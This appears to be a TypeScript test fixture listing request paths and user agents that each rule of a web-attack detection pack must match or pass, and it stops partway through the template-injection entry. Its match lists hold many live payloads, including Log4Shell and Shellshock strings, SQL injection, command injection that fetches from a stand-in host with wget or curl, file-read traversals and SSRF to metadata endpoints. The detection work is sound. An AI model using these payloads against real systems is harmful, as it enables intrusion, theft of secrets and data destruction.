interface Examples {
  /** Targets (and agents, behind "agent: ") that must match. */
  matches: string[]
  /** Such that look alike and must not. */
  passes: string[]
}

/** For every entry of the pack, by its name. */
export const EXAMPLES: Record<string, Examples> = {
  'environment-file': {
    matches: [
      '/.env',
      '/api/.env.production',
      '/%2eenv',
      '/.ENV',
      '/prod.env',
      '/.env.bak',
      '/.env1',
    ],
    passes: ['/environment', '/docs/env', '/.well-known/env', '/x?next=/.env'],
  },
  'version-control': {
    matches: ['/.git/config', '//.git//HEAD', '/site/.svn/entries', '/.git', '/.git-credentials'],
    passes: ['/team/tool.git/info/refs', '/.gitignore', '/git/config', '/.github/'],
  },
  'cloud-credentials': {
    matches: [
      '/.aws/credentials',
      '/terraform.tfstate',
      '/.kube/config',
      '/credentials.json',
      '/.docker/config.json',
      '/serviceAccountKey.json',
    ],
    passes: ['/aws/', '/docs/credentials', '/api/credentials', '/kube/config-reference'],
  },
  'private-key': {
    matches: [
      '/id_rsa',
      '/.ssh/authorized_keys',
      '/server.key',
      '/certs/privkey.pem',
      '/id_ed25519.pub',
      '/backup/cert.pfx',
    ],
    passes: ['/docs/ssh', '/slides/talk.key', '/ca.pem', '/products/id_rsaquo'],
  },
  'key-file': { matches: ['/ca.pem', '/x/a.key'], passes: ['/monkey', '/keys', '/turkey/'] },
  'account-file': {
    matches: ['/.htpasswd', '/.bash_history', '/.netrc', '/.npmrc', '/passwords.txt'],
    passes: ['/passwords', '/reset-password.txt.html', '/history'],
  },
  'editor-settings': {
    matches: ['/.vscode/sftp.json', '/.idea/workspace.xml', '/sftp-config.json', '/.ftpconfig'],
    passes: ['/vscode/', '/docs/sftp', '/ideas/'],
  },
  'settings-file': {
    matches: [
      '/web.config',
      '/appsettings.json',
      '/docker-compose.yml',
      '/config/database.yml',
      '/config.inc.php',
      '/.htaccess',
      '/WEB-INF/web.xml',
      '/storage/logs/laravel.log',
      '/.gitlab-ci.yml',
    ],
    passes: [
      '/config.json',
      '/settings/',
      '/docs/web-config',
      '/blog/docker-files',
      '/env-config.js',
      '/settings.html',
    ],
  },
  'hidden-file': {
    matches: ['/.bashrc', '/.DS_Store', '/.gitignore', '/a/.config/'],
    passes: [
      '/.well-known/security.txt',
      '/config',
      '/.well-known/acme-challenge/abc',
      '/.netlify/functions/x',
    ],
  },
  'project-file': {
    matches: ['/composer.json', '/package.json', '/CHANGELOG.txt', '/node_modules/'],
    passes: ['/packages', '/manifest.json', '/robots.txt', '/composer/'],
  },
  'source-map': {
    matches: ['/static/app.js.map', '/main.css.map'],
    passes: ['/map', '/static/app.js', '/sitemap.xml'],
  },
  'system-file': {
    matches: ['/etc/passwd', '/proc/self/environ'],
    passes: ['/etc/', '/processes/self', '/sketch/passwd'],
  },
  phpinfo: {
    matches: [
      '/phpinfo.php',
      '/info.php',
      '/test/php_info.php',
      '/?x=phpinfo()',
      '/_profiler/phpinfo',
    ],
    passes: ['/info', '/company/info.html', '/php-information'],
  },
  'server-status': {
    matches: ['/server-status', '/elmah.axd', '/apc.php'],
    passes: ['/status', '/status.php', '/server-status-page-review', '/health'],
  },
  'framework-debugger': {
    matches: [
      '/_profiler/',
      '/debug/default/view',
      '/debug/pprof/',
      '/telescope/requests',
      '/?__debugger__=yes&cmd=resource',
    ],
    passes: ['/debug', '/telescope', '/profiler', '/products/telescope-requests'],
  },
  'spring-actuator': {
    matches: ['/actuator/env', '/actuator/heapdump', '/app/actuator/gateway/routes', '/heapdump'],
    passes: ['/actuator/health', '/actuator/info', '/env', '/products/actuator'],
  },
  'spring-actuator-index': {
    matches: ['/actuator', '/actuator/health'],
    passes: ['/actuators', '/products/linear-actuator'],
  },
  'api-description': {
    matches: [
      '/swagger-ui.html',
      '/v2/api-docs',
      '/swagger/v1/swagger.json',
      '/graphql?query={__schema{types{name}}}',
    ],
    passes: ['/api/v2', '/docs/api', '/graphql?query={me{name}}'],
  },
  'backup-copy': {
    matches: [
      '/index.php.bak',
      '/config.php~',
      '/.index.php.swp',
      '/login.php.old',
      '/a.php.txt',
      '/web.config.bak',
    ],
    passes: ['/~alice/', '/~/media/logo.png', '/old/', '/backup', '/photos/beach.save', '/copy/'],
  },
  'site-archive': {
    matches: [
      '/backup.zip',
      '/www.tar.gz',
      '/public_html.rar',
      '/backup-2024-01-01.zip',
      '/wp-content/backup-db/',
      '/old/directory.zip',
      '/backup-www/',
    ],
    passes: [
      '/downloads/tool-1.2.zip',
      '/blog/backup-site-to-s3',
      '/files/report.zip',
      '/release.tar.gz',
      '/backup-guide.html',
    ],
  },
  'database-dump': {
    matches: [
      '/dump.sql',
      '/backup/db.sql.gz',
      '/database.sqlite',
      '/users.sql',
      '/backup_2024.sql',
    ],
    passes: [
      '/data/migrations/1548957970627_remove-db-version.sql',
      '/sql',
      '/docs/dump-sql',
      '/schema.sql',
    ],
  },
  'sql-file': {
    matches: ['/data/migrations/1550601598648_payees.sql', '/a.sqlite'],
    passes: ['/sql/', '/learn-sql', '/mysql'],
  },
  'system-file-suffixed': {
    matches: [
      '/etc/passwd%3f',
      '/html/usr/share/doc/hostname/copyright%3F',
      '/tmp/temp.db%3f.1.1.1.1a-1.css',
    ],
    passes: ['/etc/passwd?a=%3f', '/wiki/What_is_it%3F', '/etc/passwd'],
  },
  'database-panel': {
    matches: [
      '/phpmyadmin/',
      '/phpMyAdmin-5.1.0/index.php',
      '/pma/',
      '/adminer.php',
      '/mysql/pma/',
      '/php-my-admin/',
    ],
    passes: ['/my-admin', '/blog/how-to-use-mysql', '/admin', '/administrators'],
  },
  'application-server-console': {
    matches: [
      '/manager/html',
      '/host-manager/html',
      '/jmx-console/',
      '/console/login/LoginForm.jsp',
      '/druid/index.html',
    ],
    passes: ['/manager/', '/console', '/managers/html5-developers', '/druids/'],
  },
  'operations-panel': {
    matches: ['/solr/admin/info/system?wt=json', '/jenkins/login', '/grafana/', '/_cat/indices'],
    passes: ['/blog/grafana-dashboards', '/blog/jenkins/', '/cat/', '/category'],
  },
  'container-api': {
    matches: ['/containers/json', '/v1.24/containers/json', '/api/v1/pods', '/v2/_catalog'],
    passes: ['/containers', '/api/v1/podcasts', '/gallery/images/json', '/v1.24/docs'],
  },
  'generic-panel': {
    matches: ['/administrator/', '/admin.php', '/adminpanel', '/user/login.jsp'],
    passes: ['/administrator-guide', '/admin', '/login', '/administration'],
  },
  'remote-access-portal': {
    matches: [
      '/owa/auth/logon.aspx',
      '/remote/login',
      '/dana-na/auth/url_default/welcome.cgi',
      '/+CSCOE+/logon.html',
      '/vpn/index.html',
    ],
    passes: [
      '/remote-jobs',
      '/docs/vpn-setup',
      '/blog/owasp',
      '/login',
      '/autodiscover/autodiscover.xml',
      '/Microsoft-Server-ActiveSync',
    ],
  },
  'router-or-camera': {
    matches: [
      '/HNAP1/',
      '/boaform/admin/formLogin',
      '/setup.cgi',
      '/cgi/networkDiag.cgi',
      '/GponForm/diag_Form',
      '/currentsetting.htm',
    ],
    passes: ['/setup', '/cgi-bin/imagemap/countdown?1,2', '/routers/', '/status.shtml'],
  },
  'cgi-script': {
    matches: ['/cgi-bin/test', '/_vti_bin/shtml.exe'],
    passes: ['/learn/cgi-scripts', '/scripts/main.js'],
  },
  'wordpress-login': {
    matches: ['/wp-login.php', '/blog/wp-admin/'],
    passes: ['/wp-login-guide', '/help/wp-admin-guide'],
  },
  'wordpress-xmlrpc': {
    matches: ['/xmlrpc.php', '//xmlrpc.php?rsd'],
    passes: ['/docs/xmlrpc-php', '/rpc.php'],
  },
  'wordpress-fingerprint': {
    matches: [
      '/wp-includes/wlwmanifest.xml',
      '/wp-cron.php',
      '/wp-content/plugins/akismet/readme.txt',
    ],
    passes: ['/blog/wp-plugins', '/wpa/', '/content/'],
  },
  'wordpress-setup': {
    matches: ['/wp-admin/install.php', '/wp-admin/setup-config.php?step=1'],
    passes: ['/wp-admin/', '/install.php', '/wp-admin/upgrade-guide'],
  },
  'wordpress-configuration': {
    matches: [
      '/wp-config.php',
      '/wp-config.php.bak',
      '/.wp-config.php.swp',
      '/wp-config-backup.txt',
      '/?file=../wp-config.php',
    ],
    passes: ['/wp-configuration-guide', '/docs/wp-config-explained', '/wp-content/'],
  },
  'wordpress-user-enumeration': {
    matches: ['/wp-json/wp/v2/users', '/?rest_route=/wp/v2/users', '/?author={num:1}'],
    passes: ['/?author=anna', '/wp-json/wp/v2/posts', '/?author=1'],
  },
  'wordpress-author-number': {
    matches: ['/?author=1', '/blog/?author=17&feed=rss2'],
    passes: ['/?author=anna', '/?author_id=7', '/books?q=author=1'],
  },
  'wordpress-plugin-exploit': {
    matches: [
      '/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php',
      '/wp-content/plugins/backup-backup/includes/backup-heart.php',
      '/wp-json/bricks/v1/render_element',
      '/wp-admin/admin-post.php?swp_debug=load_options&swp_url=http://203.0.113.9/a.txt',
    ],
    passes: [
      '/wp-admin/admin-ajax.php?action=heartbeat',
      '/wp-content/plugins/akismet/akismet.js',
      '/wp-json/wp/v2/posts',
    ],
  },
  'wordpress-file-manager': {
    matches: [
      '/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php',
      '/elfinder/php/connector.php',
    ],
    passes: ['/wp-content/plugins/contact-form-7/style.css', '/connectors/'],
  },
  'joomla-exploit': {
    matches: [
      '/api/index.php/v1/config/application?public=true',
      '/api/v1/config/application?public=true',
      '/index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(1,2,3)',
    ],
    passes: ['/index.php?option=com_content&view=article&id=7', '/api/v1/config'],
  },
  'joomla-fingerprint': {
    matches: ['/administrator/manifests/files/joomla.xml', '/language/en-GB/en-GB.xml'],
    passes: ['/administrator-handbook', '/language/en'],
  },
  'drupal-exploit': {
    matches: [
      '/user/register?element_parents=account/mail/%23value&ajax_form=1',
      '/?q=user/password&name[%23post_render][]=passthru',
    ],
    passes: ['/user/register', '/node/1?page=2', '/?q=node/1'],
  },
  'drupal-fingerprint': {
    matches: ['/sites/default/settings.php', '/core/install.php', '/node/add/blog'],
    passes: ['/sites/default/files/a.jpg', '/default/', '/nodes'],
  },
  'shop-exploit': {
    matches: [
      '/downloader/',
      '/app/etc/local.xml',
      '/index.php/admin/Cms_Wysiwyg/directive/index/',
    ],
    passes: ['/downloads/', '/app/', '/modules/blog/'],
  },
  'forum-exploit': {
    matches: [
      '/ajax/render/widget_php',
      '/index.php?routestring=ajax/render/widget_tabbedcontainer_tab_panel',
      '/ajax/api/ad/replaceAdTemplate',
    ],
    passes: ['/ajax/render/page', '/forum/widgets'],
  },
  'upload-script': {
    matches: [
      '/fckeditor/editor/filemanager/browser/default/connectors/test.html',
      '/uploadify/uploadify.php',
      '/assets/global/plugins/jquery-file-upload/server/php/index.php',
      '/timthumb.php?src=http://203.0.113.9/x.php',
    ],
    passes: ['/upload', '/uploads/photo.jpg', '/ckeditor/ckeditor.js', '/files/thumb.jpg'],
  },
  'business-program': {
    matches: ['/vtigercrm/index.php', '/glpi/'],
    passes: ['/crm', '/blog/moodle-tips', '/redmine-alternatives'],
  },
  'phpunit-eval': {
    matches: [
      '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
      '/lib/phpunit/Util/PHP/eval-stdin.php',
    ],
    passes: ['/docs/phpunit', '/phpunit.html'],
  },
  'laravel-ignition': {
    matches: ['/_ignition/execute-solution', '/_ignition/health-check'],
    passes: ['/ignition', '/parts/ignition-coil'],
  },
  thinkphp: {
    matches: [
      '/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5',
      '/?s=index/\\think\\Request/input',
    ],
    passes: ['/?s=index', '/think/about', '/?s=thinking'],
  },
  'php-cgi-arguments': {
    matches: [
      '/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input',
      '/php-cgi/php-cgi.exe?%ADd+allow_url_include%3D1',
      '/?-s',
    ],
    passes: ['/?d=1', '/?q=-d', '/php/cgi', '/?s'],
  },
  spring4shell: {
    matches: [
      '/path/?class.module.classLoader.URLs%5B0%5D=0',
      '/?class%2emodule%2eclassLoader.resources.context.parent.pipeline.first.pattern=x',
    ],
    passes: ['/?class=module', '/docs/class/module/loader'],
  },
  'java-expression': {
    matches: [
      '/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22ls%22%29%29%7D/',
      '/a.action?redirect:${%23req}',
      '/?x=%25{(%23_memberAccess=1)}',
      '/?q=freemarker.template.utility.Execute',
    ],
    passes: ['/docs/java/lang/runtime', '/?q=${name}', '/learn/ognl', '/?discount=10%25'],
  },
  log4shell: {
    matches: [
      '/?x=${jndi:ldap://203.0.113.9/a}',
      '/%24%7Bjndi%3Armi%3A//203.0.113.9/a%7D',
      '/?x=${${lower:j}ndi:${lower:l}dap://203.0.113.9}',
      '/?x=${${::-j}${::-n}di:ldap://a}',
      'agent: ${jndi:ldap://203.0.113.9/a}',
      'agent: ${${env:X:-j}ndi:dns://a}',
    ],
    passes: [
      '/docs/jndi',
      '/?q=jndi+ldap',
      '/?price=${price}',
      'agent: Mozilla/5.0 (X11; Linux x86_64)',
    ],
  },
  shellshock: {
    matches: [
      'agent: () { :;}; /bin/bash -c "id"',
      'agent: () { ignored; }; echo',
      '/?x=()%20{%20:;};',
    ],
    passes: ['agent: Mozilla/5.0 (Windows NT 10.0)', '/?f=function()', '/docs/f()'],
  },
  'vite-file-read': {
    matches: ['/@fs/etc/passwd?raw??', '/@fs/app/.env?import&raw??', '/etc/passwd?raw'],
    passes: ['/@vite/client', '/@fs/', '/@id/x'],
  },
  'ai-tool': {
    matches: [
      '/api/v1/validate/code',
      '/ajax-api/2.0/mlflow/experiments/list',
      '/gradio_api/file=/etc/passwd',
    ],
    passes: ['/api/v1/validate', '/api/tags', '/models/'],
  },
  'apache-traversal': {
    matches: [
      '/cgi-bin/.%2e/%2e%2e/%2e%2e/bin/sh',
      '/icons/.%%32%65/.%%32%65/etc/passwd',
      '/?unix:AAAAAAAAAAAA|http://203.0.113.9/',
    ],
    passes: ['/cgi-bin/test', '/icons/a.png', '/?unix:1'],
  },
  confluence: {
    matches: [
      '/setup/setupadministrator.action',
      '/json/setup-restore.action',
      '/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false',
      '/template/aui/text-inline.vm',
      '/s/x/_/;/WEB-INF/web.xml',
    ],
    passes: ['/pages/viewpage.action?pageId=7', '/server-info.action', '/setup'],
  },
  jira: {
    matches: [
      '/plugins/servlet/gadgets/makeRequest?url=http://203.0.113.9',
      '/secure/ContactAdministrators!default.jspa',
    ],
    passes: ['/browse/PROJ-1', '/secure/Dashboard.jspa'],
  },
  bitbucket: {
    matches: [
      '/rest/api/latest/projects/P/repos/r/archive?prefix=ax%00--exec=%60id%60%00--remote=origin',
    ],
    passes: ['/rest/api/latest/projects/P/repos/r/archive?format=zip', '/rest/api/latest/projects'],
  },
  gitlab: {
    matches: [
      '/api/v4/ci/lint?include_merged_yaml=true',
      '/users/password?user[email][]=a@example.com',
    ],
    passes: ['/api/v4/projects/1', '/users/sign_in', '/-/uploads/a.png'],
  },
  jenkins: {
    matches: [
      '/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript',
      '/jenkins/script',
      '/cli?remoting=false',
    ],
    passes: ['/job/build/1/console', '/cli', '/script/'],
  },
  teamcity: {
    matches: ['/hax?jsp=/app/rest/server;.jsp', '/app/rest/users/id:1/tokens/RPC2'],
    passes: ['/app/rest/builds', '/app/users/id'],
  },
  exchange: {
    matches: [
      '/autodiscover/autodiscover.json?@foo.com/owa/&Email=autodiscover/autodiscover.json%3F@foo.com',
      '/autodiscover/autodiscover.json?a@foo.var/powershell/?X-Rps-CAT=x',
      '/ecp/y.js',
    ],
    passes: [
      '/autodiscover/autodiscover.json?bla=powershell&CorrelationID=;',
      '/autodiscover/autodiscover.xml',
      '/ecp/',
    ],
  },
  sharepoint: {
    matches: ['/_layouts/15/ToolPane.aspx?DisplayMode=Edit', '/_layouts/16/spinstall0.aspx'],
    passes: ['/_layouts/15/start.aspx', '/tools/toolpane'],
  },
  fortinet: {
    matches: [
      '/api/v2/cmdb/system/admin',
      '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession',
      '/ws/cli/open?cols=1',
    ],
    passes: ['/remote/login', '/api/v2/system/admin', '/?lang=en'],
  },
  'f5-big-ip': {
    matches: ['/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp', '/mgmt/tm/util/bash'],
    passes: ['/tmui/login.jsp', '/mgmt/', '/mgmt/team/'],
  },
  citrix: {
    matches: [
      '/vpn/../vpns/cfg/smb.conf',
      '/vpns/portal/scripts/newbm.pl',
      '/gwtest/formssso?event=start&target=AAAA',
      '/p/u/doAuthentication.do',
    ],
    passes: ['/vpn/index.html', '/vpn/', '/p/u/'],
  },
  ivanti: {
    matches: [
      '/dana-na/../dana/html5acc/guacamole/',
      '/api/v1/totp/user-backup-code/../../system/system-information',
      '/mifs/aad/api/v2/ping',
    ],
    passes: ['/dana-na/auth/url_default/welcome.cgi', '/api/v1/totp', '/api/v1/licenses'],
  },
  'palo-alto': {
    matches: [
      '/php/utils/createRemoteAppwebSession.php/watchTowr.js.map',
      '/unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css',
      '/ssl-vpn/hipreport.esp',
      '/php/utils/CmsGetDeviceSoftwareVersion.php/.js.map',
    ],
    passes: ['/php/utils/', '/global-protect/login.esp', '/unauthorised'],
  },
  cisco: {
    matches: [
      '/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../',
      '/webui/logoutconfirm.html?logon_hash=1',
    ],
    passes: ['/+CSCOE+/logon.html', '/webui/', '/cisco'],
  },
  sonicwall: {
    matches: ['/cgi-bin/jarrewrite.sh', '/sonicos/is-sslvpn-enabled'],
    passes: ['/cgi-bin/status', '/sonic/'],
  },
  'check-point': { matches: ['/clients/MyCRL'], passes: ['/clients/', '/clients/my-crl'] },
  vmware: {
    matches: [
      '/ui/vropspluginui/rest/services/uploadova',
      '/catalog-portal/ui/oauth/verify?error=&deviceUdid=x',
      '/analytics/telemetry/ph/api/hyper/send?_c=&_i=test',
      '/ui/vcav-bootstrap/rest/vcav-providers/provider-logo?url=file:///etc/passwd',
    ],
    passes: ['/ui/login', '/analytics/', '/catalog/ui'],
  },
  'file-transfer': {
    matches: [
      '/moveitisapi/moveitisapi.dll?action=m2',
      '/human2.aspx',
      '/goanywhere/images/..;/wizard/InitialAccountSetup.xhtml',
      '/WebInterface/function/?command=zip',
      '/?InternalDir=/../../../../etc&InternalFile=passwd',
    ],
    passes: ['/human.html', '/go/anywhere', '/web/interface'],
  },
  'remote-support': {
    matches: [
      '/SetupWizard.aspx/x',
      '/userentry?accountId=../../&symbolName=x',
      '/mdm/client/v1/mdmLogsUploader',
    ],
    passes: ['/setup-wizard', '/support/remote', '/user/entry'],
  },
  'mail-server': {
    matches: [
      '/service/extension/backup/mboximport?account-name=admin',
      '/?_from=edit-!x&_task=settings&_action=upload',
    ],
    passes: ['/?_task=mail&_mbox=INBOX', '/service/extension'],
  },
  weblogic: {
    matches: [
      '/console/css/%252e%252e%252fconsole.portal',
      '/wls-wsat/CoordinatorPortType',
      '/_async/AsyncResponseService',
    ],
    passes: ['/console/', '/async/'],
  },
  'oracle-business': {
    matches: [
      '/OA_HTML/configurator/UiServlet',
      '/OA_HTML/BneUploaderService',
      '/OA_HTML/help/../ieshostedsurvey.jsp',
    ],
    passes: ['/oa/html', '/OA_HTML/AppsLogin'],
  },
  sap: {
    matches: ['/developmentserver/metadatauploader', '/irj/helper.jsp'],
    passes: ['/development/server', '/irj/portal'],
  },
  ofbiz: {
    matches: [
      '/webtools/control/ProgramExport',
      '/webtools/control/main/ProgramExport',
      '/webtools/control/xmlrpc?USERNAME=&PASSWORD=&requirePasswordChange=Y',
    ],
    passes: ['/webtools/', '/webtools/controls'],
  },
  geoserver: {
    matches: [
      '/geoserver/wfs?service=WFS&request=GetPropertyValue&valueReference=exec(java.lang.Runtime.getRuntime(),%27id%27)',
    ],
    passes: ['/geoserver/wms?service=WMS&request=GetMap', '/geoserver/web/'],
  },
  telerik: {
    matches: ['/Telerik.Web.UI.WebResource.axd?type=rau', '/Telerik.Web.UI.DialogHandler.aspx'],
    passes: ['/Telerik.Web.UI.WebResource.axd?_TSM_HiddenField_=x', '/WebResource.axd?d=x'],
  },
  coldfusion: {
    matches: [
      '/CFIDE/administrator/index.cfm',
      '/cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/iedit.cfc?method=x',
    ],
    passes: ['/cf/', '/index.cfm', '/cf_scripts/app.js'],
  },
  'java-application': {
    matches: [
      '/nacos/v1/auth/users?pageNo=1&pageSize=9',
      '/jobmanager/logs/..%252f..%252fetc%252fpasswd',
      '/ws/v1/cluster/apps/new-application',
      '/solr/core/select?q=1&wt=velocity',
      '/api/setup/validate',
    ],
    passes: ['/api/setup', '/solr/core/select?q=cats', '/ws/v1/cluster'],
  },
  'php-application': {
    matches: [
      '/remote_agent.php?action=polldata&local_data_ids[0]=1&host_id=1&poller_id=1',
      '/vendor/htmlawed/htmlawed/htmLawedTest.php',
      '/password_change.cgi',
    ],
    passes: ['/agent.php', '/password_change', '/action'],
  },
  grafana: {
    matches: [
      '/public/plugins/alertlist/../../../../../../etc/passwd',
      '/public/plugins/mysql/%2e%2e/%2e%2e/etc/passwd',
    ],
    passes: ['/public/plugins/alertlist/module.js', '/plugins/'],
  },
  'device-exploit': {
    matches: [
      '/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)',
      '/cgi-bin/nas_sharing.cgi?user=messagebus&cmd=15',
      '/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.9/x',
      '/device.rsp?opt=user&cmd=list',
      '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id',
    ],
    passes: ['/cgi-bin/luci/', '/shell', '/devices', '/setup.cgi'],
  },
  'relative-path': {
    matches: ['/images/../logo.png', '/?file=../a'],
    passes: ['/a..b/', '/...', '/?v=1..2'],
  },
  'path-traversal': {
    matches: ['/a/../../b', '/?page=../../index', '/?f=....//....//x', '/?f=..\\..\\x'],
    passes: ['/a/../b', '/?range=1../2'],
  },
  'path-traversal-hidden': {
    matches: [
      '/%2e%2e/%2e%2e/etc',
      '/a/..;/manager',
      '/..%2f..%2fetc/passwd',
      '/%252e%252e/',
      '/..%5c..%5cwindows',
      '/a/%c0%ae%c0%ae/',
      '/static/..%255c..%255cx',
      '/%u002e%u002e/',
    ],
    passes: [
      '/a/../b',
      '/?next=..%2Findex.php',
      '/file%2ejpg',
      '/a%2fb',
      '/100%25',
      '/?u=https%253A%252F%252Fexample.com',
    ],
  },
  'path-traversal-far': {
    matches: ['/../../../../etc/hosts', '/?f=..%2f..%2f..%2fx', '/?f=..\\..\\..\\x'],
    passes: ['/a/../../b', '/?f=../../x', '/.../...'],
  },
  'traversal-to-system-file': {
    matches: [
      '/../etc/passwd',
      '/?f=../../../../windows/win.ini',
      '/?f=..%252f..%252fproc/self/environ',
      '/a/../WEB-INF/web.xml',
    ],
    passes: ['/etc/passwd', '/../logo.png', '/?q=../etc'],
  },
  'local-file': {
    matches: [
      '/?page=/etc/passwd',
      '/?file=file:///etc/shadow',
      '/?f=C:%5CWindows%5Cwin.ini',
      '/?x=/proc/self/environ',
      '/?log=/var/log/auth.log',
    ],
    passes: ['/?q=what+is+/etc/passwd', '/?path=/etcetera', '/?file=report.pdf', '/?next=/variety'],
  },
  'null-byte': {
    matches: ['/a.php%00.jpg', '/?file=../../x%00.png', '/?file=x%00'],
    passes: ['/100%', '/?price=100%25', '/a%20b'],
  },
  'stream-wrapper': {
    matches: [
      '/?page=php://filter/convert.base64-encode/resource=index',
      '/?p=data:text/plain;base64,PD9waHA=',
      '/?x=expect://id',
    ],
    passes: ['/?img=data:image/png;base64,iVBOR', '/php/filter', '/?u=https://example.com'],
  },
  'remote-file': {
    matches: [
      '/?page=http://203.0.113.9/shell.txt?',
      '/?mosConfig_absolute_path=http://203.0.113.9/x',
      '/?inc=http://203.0.113.9/r57.txt',
    ],
    passes: [
      '/?next=https://example.com/welcome',
      '/?url=https://example.com/index.php?id=3',
      '/?dir=asc',
    ],
  },
  'metadata-service': {
    matches: [
      '/?url=http://169.254.169.254/latest/meta-data/',
      '/proxy/http://metadata.google.internal/',
      '/?u=gopher://127.0.0.1:6379/_',
    ],
    passes: ['/?ip=169.254.1.1', '/?url=https://example.com/', '/docs/metadata'],
  },
  'internal-address': {
    matches: [
      '/?url=http://127.0.0.1:8080/admin',
      '/?src=http://localhost/',
      '/?image=http://192.168.0.1/',
    ],
    passes: [
      '/?redirect_uri=http://localhost:3000/callback',
      '/?redirect_uri=http://127.0.0.1:51004/',
      '/?url=https://example.com',
      '/?host=localhost',
    ],
  },
  'sql-injection-union': {
    matches: [
      "/item?id=1'+UNION+SELECT+1,2,3--",
      '/item?id=-1%20union%20all%20select%20null,null',
      '/item?id=1/**/union/**/select/**/password,name/**/from/**/users',
      '/item?id=1+/*!50000union*/+/*!50000select*/+1,2',
      '/?id=1%2527%2520union%2520select%25201,2',
      '/?id=1)+uNiOn(sElEcT+1,2)',
    ],
    passes: [
      '/blog/select-a-union',
      '/?q=union+select+committee',
      '/?q=the+european+union+selected+2+members',
      '/?q=credit+union+all+select+branches',
    ],
  },
  'sql-injection-schema': {
    matches: [
      '/?id=1+and+extractvalue(1,concat(0x7e,version()))',
      '/?id=1;exec+xp_cmdshell(%27dir%27)',
      '/?id=(select+table_name+from+information_schema.tables)',
      '/?id=1+into+outfile+%27/tmp/x%27',
    ],
    passes: ['/docs/information-schema', '/?q=load+file', '/?q=version'],
  },
  'sql-injection-time': {
    matches: [
      "/?id=1'+and+sleep(5)--",
      '/?id=1);waitfor+delay+%270:0:5%27--',
      '/?id=1+and+(select+*+from+(select(sleep(5)))a)',
      "/?id=1'||pg_sleep(5)--",
      '/?id=benchmark(5000000,md5(1))',
      '/?id=if(now()=sysdate(),sleep(15),0)',
      '/?id=1;select+pg_sleep(5)',
    ],
    passes: ['/?q=sleep', '/?q=how+to+sleep+(5)+tips', '/?q=time.sleep(5)', '/?q=delay'],
  },
  'sql-injection-boolean': {
    matches: [
      "/?id=1'+or+'1'='1",
      '/?id=1+OR+1=1',
      '/?id=1)+AND+8383=8383+AND+(5555=5555',
      "/?user=admin'--",
      "/?id=x'%20or%201=1%23",
      '/?id=1+order+by+10--',
      "/?id=1'+and+'a'='b",
      '/?id=1+and+ascii(substr((select+1),1,1))>64',
      "/?q=')+or+('1'='1",
    ],
    passes: [
      "/?name=O'Brien",
      "/?q=rock+'n'+roll",
      "/?q='cats'+and+'dogs'",
      '/?q="cats"+and+"dogs"',
      '/?q=this+or+that',
      '/?filter=price+gt+20+and+id+eq+5',
      '/?a=1&b=1',
      '/?jql=project=ABC+and+id=7',
      '/?q=1+or+2+bedrooms',
    ],
  },
  'sql-statement': {
    matches: [
      '/?id=1;drop+table+users',
      "/?id=1';insert+into+users+values(1)--",
      '/?id=(select+1)',
      "/?id=1'||(select+version())||'",
      '/?id=1;+exec+master..xp',
    ],
    passes: [
      '/?q=drop+table',
      '/?q=select+a+plan',
      '/?q=insert+into+folder;+then+close',
      '/?q=tables',
    ],
  },
  'sql-quote': {
    matches: ["/item?id=1'", '/item?id=7%22', "/item?id=3')"],
    passes: ["/?name=O'Brien", '/?id=1', "/?q=6'+tall", '/?q=it%27s'],
  },
  'cross-site-script': {
    matches: [
      '/?q=<script>alert(1)</script>',
      '/?q=%3Cimg%20src=x%20onerror=alert(1)%3E',
      '/?q="><svg/onload=confirm(1)>',
      '/?u=javascript:alert(document.cookie)',
      '/?q=%253Cscript%253E',
      '/?q=<body onload=alert(1)>',
      "/?q='-alert(1)-'",
      '/<script>x</script>',
      '/?q=jAvAsCrIpT:eval(1)',
      '/?q=prompt(',
    ],
    passes: [
      '/?q=i+<3+you',
      '/?q=javascript',
      '/?q=script',
      '/?q=a<b',
      '/?q=alert',
      '/docs/javascript-alert',
      '/?q=on+error+resume',
      '/?description=description',
    ],
  },
  'html-in-parameter': {
    matches: ['/foo?a=<br', '/foo?a=%3Cdiv', '/foo?a=%22%3E%3Cb'],
    passes: ['/foo?a=<3', '/foo?a=x<y', '/foo?a=b'],
  },
  'command-injection': {
    matches: [
      '/?ip=127.0.0.1;cat+/etc/passwd',
      '/?x=|id',
      '/?x=`whoami`',
      '/?x=$(curl+http://203.0.113.9)',
      '/?x=;wget+http://203.0.113.9/x.sh',
      '/?x=a%26%26+ping+-c+4+203.0.113.9',
      '/?x=;cat${IFS}/etc/passwd',
      '/cmd.exe?/c+dir',
      '/?x=%0acd+/tmp;',
      '/?c=powershell+-enc+abc',
      '/?x=/bin/bash',
      '/?x=nslookup+a.oast.fun',
    ],
    passes: [
      '/?q=cat+pictures',
      '/?q=curl+-x+post',
      '/?q=a;b',
      '/?q=asp.net+user+controls',
      '/?q=wget+manual',
      '/?a=1&amp;id=5',
      '/cats;sort=name',
      '/?q=busybox+docker',
      '/?q=powershell+-+a+tutorial',
      '/?q=rm',
      '/?q=ping+time',
    ],
  },
  'php-code': {
    matches: [
      '/?x=<?php+system(1);',
      "/?x=system('id')",
      '/?x=${@print(md5(31337))}',
      '/?x=eval(base64_decode(x))',
      '/?+config-create+/&lang=../../../../usr/local/lib/php/pearcmd',
      '/?x=print_r(md5(1))',
    ],
    passes: ['/?q=system', '/?q=print("hello")', '/?q=evaluate', '/?q=php'],
  },
  'template-injection': {
    matches: [
      '/?x={{7*7}}',
      '/?x=${7*7}',
      '/?x=%23{7*7}',
      '/?x={{config.items()}}',
      "/?x={{''.__class__.__mro__}}",
